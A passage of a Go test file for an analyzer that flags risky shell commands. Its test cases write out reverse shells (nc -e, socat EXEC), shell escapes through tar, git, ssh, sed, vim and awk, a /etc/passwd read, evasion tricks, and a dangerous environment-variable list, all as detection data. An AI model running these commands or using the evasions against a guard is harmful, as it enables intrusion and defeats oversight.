package shell

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// testArgv splits a command line the way the analyzer would resolve it, closely
// enough for these tests: spaces separate words, quotes group, and a word
// with a $ or backquote outside single quotes is dynamic (Value is then its
// source text).
func testArgv(s string) []Word {
	var out []Word
	var val, raw strings.Builder
	dyn, in := false, false
	var q byte
	flush := func() {
		if in {
			if dyn {
				out = append(out, Word{Value: raw.String(), Dynamic: true})
			} else {
				out = append(out, Word{Value: val.String()})
			}
		}
		val.Reset()
		raw.Reset()
		dyn, in = false, false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case q == '\'':
			if c == '\'' {
				q = 0
			} else {
				val.WriteByte(c)
			}
		case q == '"':
			if c == '"' {
				q = 0
			} else {
				dyn = dyn || c == '$' || c == '`'
				val.WriteByte(c)
			}
		case c == ' ':
			flush()
			continue
		case c == '\'' || c == '"':
			q = c
		default:
			dyn = dyn || c == '$' || c == '`'
			val.WriteByte(c)
		}
		raw.WriteByte(c)
		in = true
	}
	flush()
	return out
}

// got is what the tests compare: everything but the wording of Detail,
// which is checked by substring.
type got struct {
	Kind    FlagKind
	Code    string
	HasCode bool
	Dynamic bool
}

type exp struct {
	got
	detail string
}

func inl(detail string) exp { return exp{got{Kind: FlagInlineCode}, detail} }
func exe(detail string) exp { return exp{got{Kind: FlagExecOption}, detail} }
func rem(detail string) exp { return exp{got{Kind: FlagRemoteCommand}, detail} }
func opq(detail string) exp { return exp{got{Kind: FlagOpaque}, detail} }

func inlC(detail, code string) exp {
	return exp{got{Kind: FlagInlineCode, Code: code, HasCode: true}, detail}
}

func exeC(detail, code string) exp {
	return exp{got{Kind: FlagExecOption, Code: code, HasCode: true}, detail}
}

func exeD(detail, code string) exp {
	return exp{got{Kind: FlagExecOption, Code: code, HasCode: true, Dynamic: true}, detail}
}

var hazardCases = []struct {
	cmd  string
	want []exp
}{
	// Python.
	{"python3 script.py", nil},
	{"python3 -c 'import os'", []exp{inl("python3 -c runs inline code")}},
	{"python3.11 -Ic 'import os'", []exp{inl("python3.11 -c")}},
	{"python -uc x", []exp{inl("python -c")}},
	{"python3 -cprint(1)", []exp{inl("-c")}},
	{"python3 -m http.server 8000", nil},
	{"python3 -m pytest -x tests", nil},
	{"pypy3 -c x", []exp{inl("pypy3 -c")}},
	{"/usr/bin/python3 -W ignore -c x", []exp{inl("-c")}},
	{"python3 -W -c script.py", nil},
	{"python3 script.py -c foo", nil},
	{"python3 -u script.py", nil},
	{"python3", []exp{inl("reads its program from stdin")}},
	{"python3 -", []exp{inl("stdin")}},
	{"python3 --version", nil},
	{"python3 -V", nil},
	{"python3 $SCRIPT", []exp{opq("dynamic argument")}},
	{`python3 "./$SCRIPT"`, nil},
	{`python3 "$SCRIPT"`, []exp{opq("dynamic argument")}},
	{`python3 '-c'"$X"`, []exp{opq("dynamic argument")}},
	{`tar -xf a.tar "--to-command=$CMD"`, []exp{opq("dynamic argument")}},
	{`ssh -o "ProxyCommand=$X" host`, []exp{opq("-o is dynamic")}},
	{`git -c "core.pager=$X" log`, []exp{opq("key is dynamic")}},
	{`vim "$F"`, []exp{opq("dynamic argument")}},
	{`vim "./$F"`, nil},
	{"python3.13t -c x", []exp{inl("-c")}},
	{"python3-config --cflags", nil},
	{"ipython -c x", []exp{inl("-c")}},
	// Perl.
	{"perl -e 'print 1'", []exp{inl("perl -e runs inline code")}},
	{"perl -pe 's/a/b/' f", []exp{inl("-e")}},
	{"perl -ne print f", []exp{inl("-e")}},
	{"perl -lne print f", []exp{inl("-e")}},
	{"perl -lane 'print $F[0]' f", []exp{inl("-e")}},
	{"perl -w x.pl", nil},
	{"perl -pie 's/a/b/' f", nil}, // -i takes "e" as the backup suffix
	{"perl -pi -e 's/a/b/' f", []exp{inl("-e")}},
	{"perl5.36 -E 'say 1'", []exp{inl("perl5.36 -E")}},
	{"perl -MPOSIX -e 1", []exp{inl("-e")}},
	{"perl -MO=Deparse x.pl", nil},
	{`perl '-Mstrict;system("id")' x.pl`, []exp{inl("-M text is evaluated as code")}},
	{"perl", []exp{inl("stdin")}},
	{"perl -v", nil},
	{"perl -I lib x.pl", nil},
	{"perl -I -e x.pl", nil},
	// Ruby, Node, Deno, Bun, PHP, Lua, R, Tcl, AppleScript, PowerShell.
	{"ruby -e 'puts 1'", []exp{inl("ruby -e")}},
	{"ruby3.1 -ne print f", []exp{inl("ruby3.1 -e")}},
	{"ruby x.rb", nil},
	{"ruby -r json x.rb", nil},
	{"node -e x", []exp{inl("node -e")}},
	{"nodejs --eval=x", []exp{inl("nodejs --eval")}},
	{"node -p 1+1", []exp{inl("node -p")}},
	{"node -pe 1", []exp{inl("node -p")}},
	{"node app.js", nil},
	{"node --require ./x.js app.js", nil},
	{"node --import data:text/javascript,1 app.js", []exp{inl("data: URL")}},
	{"node --run build", []exp{exe("package.json script")}},
	{"node", []exp{inl("stdin")}},
	{"node --version", nil},
	{"node app.js -e x", nil},
	{"deno eval 'console.log(1)'", []exp{inl("deno eval")}},
	{"deno run -A main.ts", nil},
	{"deno run https://example.com/x.ts", []exp{inl("URL")}},
	{"deno task build", []exp{exe("deno.json task")}},
	{"bun -e x", []exp{inl("bun -e")}},
	{"bun run dev", nil},
	{"bun exec 'ls -l'", []exp{exeC("bun exec", "ls -l")}},
	{"php -r 'echo 1;'", []exp{inl("php -r")}},
	{"php8.2 x.php", nil},
	{"php -l x.php", nil},
	{"php", []exp{inl("stdin")}},
	{"php -d auto_prepend_file=/tmp/x.php x.php", []exp{inl("auto_prepend_file")}},
	{"lua -e 'print(1)'", []exp{inl("lua -e")}},
	{"lua5.4 x.lua", nil},
	{"luajit -e x", []exp{inl("luajit -e")}},
	{"Rscript -e 'print(1)'", []exp{inl("Rscript -e")}},
	{"Rscript x.R", nil},
	{"R -e 'q()'", []exp{inl("R -e")}},
	{"R --no-save", []exp{inl("stdin")}},
	{"tclsh", []exp{inl("stdin")}},
	{"tclsh8.6 -encoding utf-8 x.tcl", nil},
	{"osascript -e 'do shell script \"id\"'", []exp{inl("osascript -e")}},
	{"osascript x.scpt", nil},
	{"pwsh -c Get-Process", []exp{inl("-Command")}},
	{"powershell -Command x", []exp{inl("-Command")}},
	{"pwsh -NoProfile -ec AAAA", []exp{inl("base64")}},
	{"pwsh -nop -ExecutionPolicy Bypass -File x.ps1", nil},
	{"pwsh x.ps1", nil},
	{"julia -e 'println(1)'", []exp{inl("julia -e")}},
	{"julia x.jl", nil},
	{"fish -c 'echo 1'", []exp{inl("fish -c")}},
	{"fish x.fish", nil},
	{"expect -c 'spawn id'", []exp{inl("expect -c")}},
	// awk.
	{"awk '{print $1}' f", nil},
	{`awk 'BEGIN{system("id")}'`, []exp{inl("awk runs commands (system())")}},
	{`gawk '{ "date" | getline d }'`, []exp{inl("gawk runs commands (pipe)")}},
	{`awk '{print | "sh"}'`, []exp{inl("pipe")}},
	{`awk '{printf "x" | "cat"}'`, []exp{inl("pipe")}},
	{`gawk 'BEGIN{print "x" |& "/inet/tcp/0/h/80"}'`, []exp{inl("coprocess")}},
	{"awk '/a|b/ {print}' f", nil},
	{`awk '$1 == "a|b"' f`, nil},
	{"awk '{x = a || b}' f", nil},
	{"awk -F'|' '{print $2}' f", nil},
	{"awk -f prog.awk f", []exp{inl("program file prog.awk not analysed")}},
	{"mawk -v x=1 '{print x}' f", nil},
	{`nawk 'BEGIN { system ("ls") }'`, []exp{inl("nawk runs commands")}},
	{`busybox awk 'BEGIN{system("id")}'`, []exp{inl("awk runs commands")}},
	{`awk '{ a = b / 2; "id" | getline; c = d / 3 }'`, []exp{inl("pipe")}},
	{"awk '{ print $1 / 2 }' f", nil},
	{"awk '{print} # a|b' f", nil},
	{`gawk --sandbox 'BEGIN{system("id")}'`, nil},
	{`gawk -e 'BEGIN{system("x")}'`, []exp{inl("system()")}},
	{`gawk --source='BEGIN{system("x")}'`, []exp{inl("system()")}},
	{"gawk -l ordchr 'BEGIN{}'", []exp{inl("loads extension ordchr")}},
	{`awk '@load "x"'`, []exp{inl("@load")}},
	{`awk "$PROG" f`, []exp{opq("program is dynamic")}},
	{`awk '{print > "out.txt"}' f`, nil},
	{`awk 'BEGIN { while (("ls" | getline line) > 0) print line }'`, []exp{inl("pipe")}},
	{`awk '/x\/|y/ {print}' f`, nil},
	{`awk '/[/|]/' f`, nil},
	{`awk '{ print "system(x)" }' f`, []exp{inl("system()")}}, // conservative: raw system( anywhere
	{`/usr/local/bin/gawk 'BEGIN{system("x")}'`, []exp{inl("gawk runs commands")}},
	{"jq '.a | .b' f", nil},
	// sed.
	{"sed -e 's/e/x/'", nil},
	{"sed -n '/re/p' f", nil},
	{"sed 's/a/b/ge' f", []exp{inl("s///e executes the pattern space")}},
	{"sed '1e id' f", []exp{inlC("sed e runs a command", "id")}},
	{"sed -e '$!e' f", []exp{inl("e executes the pattern space")}},
	{"sed e f", []exp{inl("e executes")}},
	{"sed -n 's|a|b|e' f", []exp{inl("s///e")}},
	{`sed 's/e\/x/y/' f`, nil},
	{"sed 'y/e/x/' f", nil},
	{"sed '/e/d' f", nil},
	{"sed '/x/a e something' f", nil},
	{"sed '1i\\\ne foo' f", nil},
	{"sed -e 'a\\' -e 'e foo' f", nil},
	{"sed -e 'a foo' -e 'e id' f", []exp{inlC("e runs", "id")}},
	{"sed 'w out.txt' f", nil},
	{"sed 's/a/b/w e.txt' f", nil},
	{"sed 'b e;e id' f", []exp{inlC("e runs", "id")}},
	{"sed ':e;s/x/y/;te' f", nil},
	{"sed '1~2e date' f", []exp{inlC("e runs", "date")}},
	{"sed '/a/,+2e date' f", []exp{inlC("e runs", "date")}},
	{`sed '\,x,e date' f`, []exp{inlC("e runs", "date")}},
	{"sed -e '1{' -e 'e date' -e '}' f", []exp{inlC("e runs", "date")}},
	{"sed -ie 's/a/b/' f", nil}, // -i takes "e" as the backup suffix
	{"sed -i -e 's/a/b/e' f", []exp{inl("s///e")}},
	{"sed --sandbox 's/a/b/e' f", nil},
	{"sed -f script.sed f", []exp{inl("script file script.sed not analysed")}},
	{"sed --expr='1e id' f", []exp{inlC("e runs", "id")}},
	{`sed -n -e "$S" f`, []exp{opq("script is dynamic")}},
	{"sed 's/a/b/;e' f", []exp{inl("e executes")}},
	{"sed 's/x/y/I;s/a/b/M' f", nil},
	{"gsed 's/a/b/ge' f", []exp{inl("gsed s///e")}},
	{"sed '# e comment' f", nil},
	{"sed 's/a/b/#e' f", nil},
	{"sed '$e cat /etc/passwd' f", []exp{inlC("e runs", "cat /etc/passwd")}},
	{"sed 'c\\text e' f", nil},
	{"sed -n '/start/,/end/{s/e/E/g;p}' f", nil},
	{"busybox sed 's/a/b/e' f", []exp{inl("s///e")}},
	// tar.
	{"tar czf a.tgz dir", nil},
	{"tar -xzf a.tgz", nil},
	{"tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", []exp{exeC("--checkpoint-action=exec", "/bin/sh")}},
	{"tar xf a.tar --to-command='sh -c id'", []exp{exeC("--to-command", "sh -c id")}},
	{"tar xf a.tar --to-command cat", []exp{exeC("--to-command", "cat")}},
	{"tar -I 'sh -c id' -xf a.tar", []exp{exeC("--use-compress-program", "sh -c id")}},
	{"tar cIf 'sh -c id' a.tar d", []exp{exeC("--use-compress-program", "sh -c id")}},
	{"tar --use-compress-program=zstd -cf a.tar d", []exp{exeC("--use-compress-program", "zstd")}},
	{"tar -x --to-com=id -f a.tar", []exp{exeC("--to-command", "id")}},
	{"tar --checkpoint-act=exec=id -cf x d", []exp{exeC("--checkpoint-action", "id")}},
	{"tar --checkpoint=10 --checkpoint-action=dot -cf x d", nil},
	{"tar -F ./next.sh -cML 1 -f a.tar d", []exp{exeC("--info-script", "./next.sh")}},
	{"tar --rsh-command=/tmp/x -cf h:a.tar d", []exp{exeC("--rsh-command", "/tmp/x")}},
	{"tar --new-volume-script=x.sh -cf a d", []exp{exeC("--info-script", "x.sh")}},
	{"tar -cf - --exclude=--to-command=x d", nil},
	{"tar -tf a.tar --to-stdout", nil},
	{"tar -cf a.tar --to-command=$CMD d", []exp{exeD("--to-command", "$CMD")}},
	{"tar $OPTS a.tar", []exp{opq("dynamic argument")}},
	// zip.
	{"zip -r a.zip d", nil},
	{"zip a.zip f -T -TT 'sh -c id'", []exp{exeC("zip -TT", "sh -c id")}},
	{"zip a.zip f -T --unzip-command id", []exp{exeC("zip -TT", "id")}},
	// ssh, scp, sftp, rsync.
	{"ssh host", nil},
	{"ssh host ls -la", []exp{rem(`ssh runs "ls -la" on host`)}},
	{"ssh -p 22 -i key user@host uptime", []exp{rem(`runs "uptime" on user@host`)}},
	{"ssh -o ProxyCommand='sh -c id' host", []exp{exeC("ProxyCommand runs a command", "exec sh -c id")}},
	{"ssh -oProxyCommand=id host", []exp{exeC("ProxyCommand", "exec id")}},
	{"ssh -o 'ProxyCommand id x' host", []exp{exeC("ProxyCommand", "exec id x")}},
	{"ssh -o 'proxycommand = id' host", []exp{exeC("ProxyCommand", "exec id")}},
	{"ssh -o LocalCommand=id -o PermitLocalCommand=yes host", []exp{exeC("LocalCommand", "id"), exe("PermitLocalCommand")}},
	{"ssh -o KnownHostsCommand=id host", []exp{exeC("KnownHostsCommand", "id")}},
	{"ssh -F ./cfg host", []exp{exe("config file ./cfg may hold ProxyCommand")}},
	{"ssh -F /dev/null host", nil},
	{"ssh -J jump host", nil},
	{"ssh host -o ProxyCommand=id", []exp{exeC("ProxyCommand", "exec id")}},
	{"ssh -l user host -- ls", []exp{rem(`runs "ls" on host`)}},
	{"ssh -N -L 8080:localhost:80 host", nil},
	{"ssh -o ProxyCommand=none host", nil},
	{"ssh -o StrictHostKeyChecking=no host", nil},
	{"ssh -o RemoteCommand=id host", []exp{rem("remote host")}},
	{"ssh $HOST ls", []exp{opq("dynamic argument"), rem(`runs "ls" on $HOST`)}},
	{"scp -S ./prog a host:b", []exp{exe("scp -S runs program ./prog")}},
	{"scp -o ProxyCommand=id a host:b", []exp{exeC("ProxyCommand", "exec id")}},
	{"scp a.txt host:/tmp/", nil},
	{"scp a.txt 'host:`id`'", []exp{rem("remote shell")}},
	{"sftp -b batch.txt host", []exp{exe("batch file")}},
	{"sftp host", nil},
	{"rsync -avz src/ host:dst/", nil},
	{"rsync -e 'sh -c id' a host:b", []exp{exeC("rsync -e", "sh -c id")}},
	{"rsync -avze ssh a host:b", []exp{exeC("rsync -e", "ssh")}},
	{"rsync --rsh='ssh -p 22' a host:b", []exp{exeC("--rsh", "ssh -p 22")}},
	{"rsync --rsync-path='sudo rsync' a host:b", []exp{exe("--rsync-path")}},
	{"rsync a host:b --rsh=x", []exp{exeC("--rsh", "x")}},
	// git.
	{"git -c user.name=x commit -m msg", nil},
	{"git -c core.pager='sh -c id' log", []exp{exeC("core.pager runs a command", "sh -c id")}},
	{"git -c core.sshCommand='ssh -i k' fetch", []exp{exeC("core.sshCommand", "ssh -i k")}},
	{"git -c CORE.PAGER=id log", []exp{exeC("CORE.PAGER", "id")}},
	{"git -c alias.x='!id' x", []exp{exeC("alias.x", "id")}},
	{"git -c alias.x=log x", nil},
	{"git -c core.fsmonitor=true status", nil},
	{"git -c core.fsmonitor=./hook status", []exp{exeC("core.fsmonitor", "./hook")}},
	{"git -c core.hooksPath=/tmp/h commit", []exp{exe("core.hooksPath runs hooks")}},
	{"git -c diff.foo.textconv=cat diff", []exp{exeC("diff.foo.textconv", "cat")}},
	{"git -c filter.lfs.smudge='x %f' checkout", []exp{exeC("filter.lfs.smudge", "x %f")}},
	{"git -c 'credential.helper=!f() { echo; }; f' push", []exp{exeC("credential.helper", "f() { echo; }; f")}},
	{"git -c credential.helper=store push", []exp{exeC("credential.helper", "git credential-store")}},
	{"git -c credential.helper= push", nil},
	{"git -c sequence.editor=x rebase -i main", []exp{exeC("sequence.editor", "x")}},
	{"git -c gpg.program=./g commit -S", []exp{exeC("gpg.program", "./g")}},
	{"git -c core.editor=vim commit", []exp{exeC("core.editor", "vim")}},
	{"git --config-env=core.pager=PAGERCMD log", []exp{exeD("core.pager", "$PAGERCMD")}},
	{"git -p log", []exp{exe("runs PAGER")}},
	{"git --exec-path=/tmp/x status", []exp{exe("--exec-path")}},
	{"git --exec-path", nil},
	{"git log -c core.pager=x", nil},
	{"git config alias.x '!id'", []exp{exe("stores a command")}},
	{"git config --global core.pager less", []exp{exe("stores a command")}},
	{"git config user.name x", nil},
	{"git config --get core.pager", nil},
	{"git config set core.editor vim", []exp{exe("stores a command")}},
	{"git rebase -x 'make test' main", []exp{exeC("rebase -x", "make test")}},
	{"git rebase --exec=id main", []exp{exeC("--exec", "id")}},
	{"git rebase -ix id main", []exp{exeC("-x", "id")}},
	{"git rebase --exe id main", []exp{exeC("--exec", "id")}},
	{"git rebase -i main", nil},
	{"git bisect run make test", []exp{exeC("bisect run", "make test")}},
	{"git submodule foreach 'git pull'", []exp{exeC("foreach", "git pull")}},
	{"git clone -u 'sh -c id' /tmp/r", []exp{exeC("clone -u", "sh -c id")}},
	{"git clone -c core.fsmonitor=id https://x/r", []exp{exeC("core.fsmonitor", "id")}},
	{"git clone 'ext::sh -c id' x", []exp{exeC("ext::", "sh -c id")}},
	{"git fetch --upload-pack=id origin", []exp{exeC("--upload-pack", "id")}},
	{"git push --receive-pack=id origin", []exp{exeC("--receive-pack", "id")}},
	{"git grep -O foo", []exp{exe("runs PAGER")}},
	{"git grep --open-files-in-pager=vim foo", []exp{exeC("--open-files-in-pager", "vim")}},
	{"git grep -e -O foo", nil},
	{"git filter-branch --tree-filter 'rm x' HEAD", []exp{exeC("--tree-filter", "rm x")}},
	{"git difftool -x id HEAD", []exp{exeC("-x", "id")}},
	{"git status", nil},
	{"git -C /x status", nil},
	{"git send-email --smtp-server=/tmp/x a.patch", []exp{exeC("--smtp-server", "/tmp/x")}},
	{"git send-email --smtp-server=smtp.example.com a.patch", nil},
	{"git -c protocol.ext.allow=always clone x", []exp{exe("ext::")}},
	{`git -c "$KV" log`, []exp{opq("key is dynamic")}},
	// make.
	{"make test", nil},
	{"make -j4 all", nil},
	{"make -j 4 all", nil},
	{"make --eval='x: ; id' x", []exp{inl("--eval")}},
	{"make -E 'x:;id' x", []exp{inl("--eval")}},
	{"make SHELL=/tmp/x", []exp{exe("SHELL= replaces the recipe shell")}},
	{"make 'X!=id'", []exp{exeC("X!= runs a command", "id")}},
	{"make 'X:=$(shell id)'", []exp{exe("calls a make function")}},
	{"make CC=clang", nil},
	{"make -f - all", []exp{exe("stdin")}},
	{"make -C dir test", nil},
	// Editors and pagers.
	{"vim file", nil},
	{"vim -c ':!id' file", []exp{inl("vim -c")}},
	{"vim '+:!id' file", []exp{inl("vim +:!id")}},
	{"vim +10 file", nil},
	{"vim --cmd 'set x' file", []exp{inl("--cmd")}},
	{"vim -S s.vim", []exp{inl("-S sources s.vim")}},
	{"nvim --headless -c q", []exp{inl("nvim -c")}},
	{"ex file", []exp{inl("ex mode")}},
	{"vim -es file", []exp{inl("ex mode")}},
	{"vim -u NONE file", nil},
	{"vi -R file", nil},
	{"rvim -c ':!id'", []exp{inl("rvim -c")}},
	{"view -c ':!id' f", []exp{inl("view -c")}},
	{"ed file", []exp{inl("ed reads editor commands from stdin")}},
	{"emacs --batch --eval '(x)'", []exp{inl("--eval")}},
	{"emacs file.txt", nil},
	{"emacs -l x.el", []exp{inl("loads a Lisp file")}},
	{"less +F log", nil},
	{"less '+!id' f", []exp{inl("less +!id")}},
	{"less +G f", nil},
	{"less '+/foo bar' f", nil},
	{"less f", nil},
	{"man -P 'sh -c id' ls", []exp{exeC("man -P", "sh -c id")}},
	{"man --pager=cat ls", []exp{exeC("--pager", "cat")}},
	{"man ls", nil},
	{"man -H ls", []exp{exe("runs BROWSER")}},
	{"man -Hfirefox ls", []exp{exeC("-H", "firefox")}},
	// sqlite3.
	{"sqlite3 db.sqlite 'select 1'", nil},
	{"sqlite3 db '.shell id'", []exp{inlC(".shell", "id")}},
	{"sqlite3 db '.system id -a'", []exp{inlC(".shell", "id -a")}},
	{"sqlite3 -cmd '.sh id' db 'select 1'", []exp{inlC(".shell", "id")}},
	{"sqlite3 db '.once |id'", []exp{inl("runs a program")}},
	{`sqlite3 db "select load_extension('x')"`, []exp{inl("loads code")}},
	{"sqlite3 -init x.sql db 'select 1'", []exp{exe("-init")}},
	{"sqlite3 db", []exp{inl("stdin")}},
	{"sqlite3 -safe db '.shell id'", nil},
	{"sqlite3 -separator , db 'select 1'", nil},
	{"sqlite3 db 'select t.load from t'", nil},
	// Debuggers.
	{"gdb -ex 'shell id' -batch", []exp{inlC("-ex runs a shell command", "id")}},
	{"gdb -batch -ex 'info registers' ./a", []exp{inl("runs debugger commands")}},
	{"gdb -x cmds.gdb ./a", []exp{inl("from cmds.gdb")}},
	{"gdb --version", nil},
	{"gdb ./a", []exp{inl("stdin")}},
	{"lldb -o 'platform shell id'", []exp{inl("lldb -o")}},
	// Containers.
	{"docker exec -it c sh", []exp{rem("docker exec runs a command in a container")}},
	{"docker run --rm alpine id", []exp{rem("docker run")}},
	{"docker ps", nil},
	{"docker -H tcp://x exec c id", []exp{rem("docker exec")}},
	{"docker container exec c id", []exp{rem("docker exec")}},
	{"docker compose exec web sh", []exp{rem("docker exec")}},
	{"docker build .", nil},
	{"kubectl exec -it pod -- sh", []exp{rem("kubectl exec runs a command in a pod")}},
	{"kubectl -n ns get pods", nil},
	{"kubectl --namespace ns run x --image=y", []exp{rem("kubectl run")}},
	{"podman run alpine", []exp{rem("podman run")}},
	// Schedulers and detached sessions.
	{"crontab -l", nil},
	{"crontab file", []exp{exe("schedules a command to run later, outside governance")}},
	{"crontab -e", []exp{exe("schedules")}},
	{"at now + 1 minute", []exp{exe("at schedules")}},
	{"at -l", nil},
	{"batch", []exp{exe("batch schedules")}},
	{"tmux new -d id", []exp{exe("tmux new")}},
	{"tmux ls", nil},
	{"systemd-run --user id", []exp{exe("outside governance")}},
	// Relays.
	{"nc -e /bin/sh h 4444", []exp{exeC("nc -e runs a program", "/bin/sh")}},
	{"nc -lvnp 4444 -e /bin/bash", []exp{exeC("-e", "/bin/bash")}},
	{"ncat --sh-exec id h 1", []exp{exeC("--sh-exec runs a command", "id")}},
	{"nc h 80", nil},
	{"nc -lvnp 4444", nil},
	{"socat TCP:h:1 EXEC:'bash -li',pty", []exp{exeC("EXEC: runs a command", "bash -li")}},
	{"socat - SYSTEM:id", []exp{exeC("SYSTEM:", "id")}},
	{"socat TCP-LISTEN:80 TCP:h:80", nil},
	{"socat tcp:h:1 exec:sh", []exp{exeC("EXEC:", "sh")}},
	// Tools that take a command.
	{"script -qc id /dev/null", []exp{exeC("script -c", "id")}},
	{"flock /tmp/l -c id", []exp{exeC("flock -c", "id")}},
	{"watch -n 1 ls -l", []exp{exeC("watch runs a command", "ls -l")}},
	{"watch -x sh -c 'a b'", []exp{exeC("watch runs a command", "sh -c 'a b'")}},
	{"ssh -o 'ProxyCommand=;sh 0<&2 1>&2' x", []exp{exeC("ProxyCommand", "exec ;sh 0<&2 1>&2")}},
	{"git submodule foreach git log --format='%h %s'", []exp{exeC("foreach", "git log '--format=%h %s'")}},
	{"npx -c id", []exp{exeC("npx -c", "id")}},
	{"npx prettier .", nil},
	{"npm run build", nil},
	{"npm exec -c id", []exp{exeC("npm -c", "id")}},
	{"mysql -e 'system id'", []exp{inl("mysql client")}},
	{"mysql -e 'select 1'", nil},
	{`psql -c '\! id'`, []exp{inl("psql meta-command")}},
	{"psql -c 'select 1'", nil},
	// Not this file's business.
	{"cat f", nil},
	{"bash -c id", nil},
	{"find . -exec id ;", nil},
	{"ls -la", nil},
	{"$X -c id", nil},
	// Parsing corners an evader would try.
	{"python3 -- -c x", nil}, // -c is the script's name after --
	{"python3 -X dev -c x", []exp{inl("-c")}},
	{"awk -- 'BEGIN{system(\"x\")}'", []exp{inl("system()")}},
	{"awk -W exec prog.awk f", []exp{inl("program file prog.awk")}},
	{"awk -v 'x=system(1)' '{print x}' f", nil}, // -v values are strings
	{"awk 'BEGIN { print 10 / 2 | \"cat\" }'", []exp{inl("pipe")}},
	{"awk 'BEGIN { x = 1 } /a/ { n++ } END { print n }' f", nil},
	{"sed 's a b e' f", []exp{inl("s///e")}},
	{"sed 's/a/b/3e' f", []exp{inl("s///e")}},
	{"sed -e 's/a/b/' -- 'e id'", nil}, // with -e, operands are files
	{"sed --expression 1eid f", []exp{inlC("e runs", "id")}},
	{"sed -e 'a foo\\' -e 'e id' f", nil}, // a backslash-newline continues the text
	{"sed '0,/re/e' f", []exp{inl("e executes")}},
	{`sed -e 'a foo\\' -e 'e id' f`, []exp{inlC("e runs", "id")}}, // an escaped backslash does not
	{"tar --use=gzip -cf a d", []exp{exeC("--use-compress-program", "gzip")}},
	{"tar -xf a.tar '--to-command=sh -c id'", []exp{exeC("--to-command", "sh -c id")}},
	{"tar -C dir -xf a.tar", nil},
	{"ssh -vo ProxyCommand=id host", []exp{exeC("ProxyCommand", "exec id")}},
	{"ssh host -- -oProxyCommand=id", []exp{rem("-oProxyCommand=id")}},
	{"ssh -- host ls", []exp{rem(`runs "ls" on host`)}},
	{"ssh -o PKCS11Provider=/tmp/x.so host", []exp{exe("loads a library")}},
	{"git config --file=x core.pager y", []exp{exe("stores a command")}},
	{"git config core.editor", nil},
	{"git -c 'includeIf.gitdir:/x/.path=/tmp/c' status", []exp{exe("loads a config file")}},
	{"git -c url.ext::sh.insteadOf=https:// fetch", []exp{exe("ext::")}},
	{"git -c pager.log=false log", nil},
	{"git -c pager.log='sh -c id' log", []exp{exeC("pager.log", "sh -c id")}},
	{"make install PREFIX=/usr", nil},
	{"make -E", []exp{inl("--eval")}},
	{"vim -- '+:!id'", nil}, // after --, every word is a file
	{"vim -c:!id f", []exp{inl("-c")}},
	{"nvim -l x.lua", []exp{inl("Lua script")}},
	{"zip -rTT id a.zip d", []exp{exeC("-TT", "id")}},
	{"docker compose -f x.yml run web id", []exp{rem("docker run")}},
	{"busybox", nil},
}

func TestToolHazards(t *testing.T) {
	t.Parallel()
	if len(hazardCases) < 150 {
		t.Fatalf("only %d cases", len(hazardCases))
	}
	for _, tc := range hazardCases {
		t.Run(tc.cmd, func(t *testing.T) {
			t.Parallel()
			hs := toolHazards(testArgv(tc.cmd))
			var gs []got
			for _, h := range hs {
				g := got{Kind: h.Kind}
				if h.Code != nil {
					g.Code, g.HasCode, g.Dynamic = h.Code.Value, true, h.Code.Dynamic
				}
				gs = append(gs, g)
			}
			var ws []got
			for _, w := range tc.want {
				ws = append(ws, w.got)
			}
			if diff := cmp.Diff(ws, gs); diff != "" {
				t.Fatalf("toolHazards(%q) mismatch (-want +got):\n%s\nhazards: %+v", tc.cmd, diff, hs)
			}
			for i, w := range tc.want {
				if !strings.Contains(hs[i].Detail, w.detail) {
					t.Errorf("hazard %d detail %q does not contain %q", i, hs[i].Detail, w.detail)
				}
			}
		})
	}
}

func TestTestArgv(t *testing.T) {
	t.Parallel()
	got := testArgv(`a 'b c' "d e" $X "$Y/z" 'lit $1'`)
	want := []Word{{Value: "a"}, {Value: "b c"}, {Value: "d e"}, {Value: "$X", Dynamic: true},
		{Value: `"$Y/z"`, Dynamic: true}, {Value: "lit $1"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Fatal(diff)
	}
}

func TestToolName(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"python3.11": "python", "/usr/bin/pypy3": "python", "nodejs": "node", "perl5.36": "perl",
		"ruby3.1": "ruby", "php8.2": "php", "gawk": "awk", "mawk": "awk", "busybox-awk": "awk",
		"nawk": "awk", "lua5.4": "lua", "tclsh8.6": "tclsh", "vim.basic": "vim", "nc.openbsd": "nc",
		"python3-config": "", "ls": "", "powershell.exe": "pwsh", "gdb-multiarch": "gdb",
	} {
		if got, _ := toolName(in); got != want {
			t.Errorf("toolName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestDangerousEnv(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		"LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "LD_BIND_NOW", "BASH_ENV", "ENV", "PATH",
		"PROMPT_COMMAND", "PS4", "PAGER", "GIT_PAGER", "MANPAGER", "SYSTEMD_PAGER", "LESSOPEN",
		"LESSCLOSE", "EDITOR", "VISUAL", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF",
		"GIT_ASKPASS", "SSH_ASKPASS", "GIT_EDITOR", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0",
		"GIT_CONFIG_GLOBAL", "GIT_EXEC_PATH", "GIT_TEMPLATE_DIR", "PERL5OPT", "PERL5LIB", "PERLLIB",
		"PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "PYTHONINSPECT", "NODE_OPTIONS", "NODE_PATH",
		"RUBYOPT", "RUBYLIB", "IFS", "SHELLOPTS", "BASHOPTS", "ZDOTDIR", "XDG_CONFIG_HOME",
		"GCONV_PATH", "DYLD_INSERT_LIBRARIES", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "CLASSPATH",
		"NPM_CONFIG_SCRIPT_SHELL", "npm_config_script_shell", "OPENSSL_CONF", "SSL_CERT_FILE",
		"CURL_HOME", "WGETRC", "INPUTRC", "BROWSER", "SUDO_ASKPASS", "KUBECONFIG", "DOCKER_HOST",
		"BASH_FUNC_ls%%", "LESS", "TAR_OPTIONS", "MAKEFLAGS", "LUA_INIT_5_4", "https_proxy",
		"HTTPS_PROXY", "RSYNC_RSH", "GIT_PROXY_COMMAND", "VIMINIT",
	} {
		if why, ok := dangerousEnv(name); !ok || why == "" {
			t.Errorf("dangerousEnv(%q) = %q, %v; want a reason", name, why, ok)
		}
	}
